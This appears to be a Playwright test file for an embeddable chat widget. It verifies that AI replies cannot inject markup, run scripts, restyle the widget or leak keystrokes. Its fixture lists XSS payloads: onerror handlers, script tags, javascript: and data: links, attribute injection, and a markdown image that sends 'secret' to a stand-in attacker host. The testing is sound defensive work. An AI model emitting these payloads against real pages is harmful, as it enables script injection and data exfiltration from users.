import { expect, test } from '../support/test'
import { ask, bubble, conversation, messageBox, openChat, scriptReplies, visit } from './ownersSite'

const HOSTILE = [
  '<img src=x onerror="window.broken=1"><script>window.broken=1</script>',
  '[a](javascript:window.broken=1) [b](JaVa\tscript:window.broken=1) [c](data:text/html,<script>1</script>)',
  '![pixel](https://evil.example/p.png?d=secret)',
  '[d](https://example.com/"onmouseover="window.broken=1) https://example.com/plain.',
].join('\n')

test('nothing in a reply is markup, and no request leaves for it', async ({ page, otherOrigin, baseURL }) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  await scriptReplies(page, {
    content: HOSTILE,
    sources: [{ kind: 'site', title: '<b>x</b>', url: 'javascript:window.broken=1' }],
  })
  await visit(page, otherOrigin, baseURL)
  await openChat(page)
  await ask(page, 'Hi')
  const log = conversation(page)
  await expect(log).toContainText('<img src=x onerror="window.broken=1">')
  await expect(log.locator('img, script, b')).toHaveCount(0)
  const links = await log.getByRole('link').all()
  expect(await Promise.all(links.map((link) => link.getAttribute('href')))).toEqual([
    'https://example.com/"onmouseover="window.broken=1',
    'https://example.com/plain',
  ])
  for (const link of links) {
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow')
    await expect(link).toHaveAttribute('target', '_blank')
  }
  expect(await page.evaluate(() => 'broken' in window)).toBe(false)
  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
})

test('it works where storage is denied, under a policy that allows only our origin, with Trusted Types', async ({
  page,
  otherOrigin,
  baseURL,
}) => {
  await page.addInitScript(() => {
    Object.defineProperty(window, 'sessionStorage', {
      get() {
        throw new DOMException('denied', 'SecurityError')
      },
    })
  })
  await scriptReplies(page, { content: 'Fine.', needsLeadCapture: true })
  await visit(page, otherOrigin, baseURL, {
    contentSecurityPolicy: `default-src 'none'; script-src ${baseURL}; connect-src ${baseURL}; require-trusted-types-for 'script'; trusted-types 'none'`,
  })
  await openChat(page)
  await ask(page, 'Hi')
  await expect(page.getByText('Fine.')).toBeVisible()
  await expect(page.getByRole('textbox', { name: 'Name' })).toBeVisible()
  await expect(page.getByRole('dialog')).toHaveCSS('border-top-left-radius', /px/)
})

test('no style of the page reaches it, and nothing typed reaches the page’s shortcuts and focus traps', async ({
  page,
  otherOrigin,
  baseURL,
}) => {
  await visit(page, otherOrigin, baseURL, {
    head: `<style>
      * { all: unset !important; display: none; }
      html, body { display: block !important; font: 40px fantasy !important; color: red !important; letter-spacing: 9px; text-transform: uppercase; }
      button, dialog, textarea { transform: rotate(9deg) !important; background: red !important; width: 5px !important; }
      deskbell-chat { visibility: hidden !important; opacity: 0 !important; }
    </style>`,
  })
  const box = await bubble(page).boundingBox()
  expect([box?.width, box?.height]).toEqual([56, 56])
  const dialog = await openChat(page)
  await expect(dialog).toHaveCSS('letter-spacing', 'normal')
  await expect(dialog).toHaveCSS('text-transform', 'none')
  await expect(messageBox(page)).toHaveCSS('font-size', '16px')
  await dialog.evaluate((element) => Promise.all(element.getAnimations().map(({ finished }) => finished)))
  expect(await dialog.boundingBox()).toMatchObject({ width: 380, height: 500 })

  await page.evaluate(() => {
    const seen: string[] = []
    for (const name of ['keydown', 'keyup', 'keypress', 'focusin'])
      document.addEventListener(name, () => seen.push(name))
    Object.assign(window, { seen })
  })
  await messageBox(page).click()
  await page.keyboard.type('/s')
  await expect(messageBox(page)).toHaveValue('/s')
  expect(await page.evaluate('seen')).toEqual([])
})
